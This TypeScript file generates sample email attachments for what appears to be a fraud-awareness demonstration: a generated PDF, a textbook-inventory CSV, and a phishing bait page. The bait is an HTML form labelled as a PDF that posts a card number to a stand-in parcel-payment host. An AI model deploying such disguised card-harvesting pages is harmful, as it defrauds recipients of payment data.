/** Small files that travel with the demonstration's messages, made on the spot: nothing binary in the repository. */
export interface File {
  filename: string;
  contentType: string;
  content: Buffer;
}

export function createFile(name: string): File {
  if (name.endsWith('.pdf'))
    return { filename: name, contentType: 'application/pdf', content: createPdf(name) };
  if (name.endsWith('.csv')) return { filename: name, contentType: 'text/csv', content: createCsv() };
  // The bait of one fraud: a page that calls itself a PDF.
  return { filename: name, contentType: 'application/pdf', content: Buffer.from(baitPage) };
}

const baitPage =
  '<!doctype html><title>Bordereau</title><form action="http://suivi-colis-laposte.example/payer"><input name="carte"></form>';

function createCsv(): Buffer {
  const rows = [
    'numero;titre;etat',
    '114;Mathématiques 5e;retrouvé',
    '131;Mathématiques 5e;retrouvé',
    '142;Français 5e;manquant',
  ];
  return Buffer.from(`\uFEFF${rows.join('\r\n')}\r\n`);
}

/** A one-page PDF 1.4 that says its own name. */
function createPdf(name: string): Buffer {
  const line = (text: string, y: number) => `BT /F1 16 Tf 60 ${y} Td (${text.replace(/[()\\]/g, '')}) Tj ET`;
  const page = [
    line(name, 760),
    line('Document de demonstration', 730),
    line('Academie de demonstration', 706),
  ].join('\n');
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    `<< /Length ${page.length} >>\nstream\n${page}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let text = '%PDF-1.4\n';
  const offsets = objects.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const start = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n`;
  text += `<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}
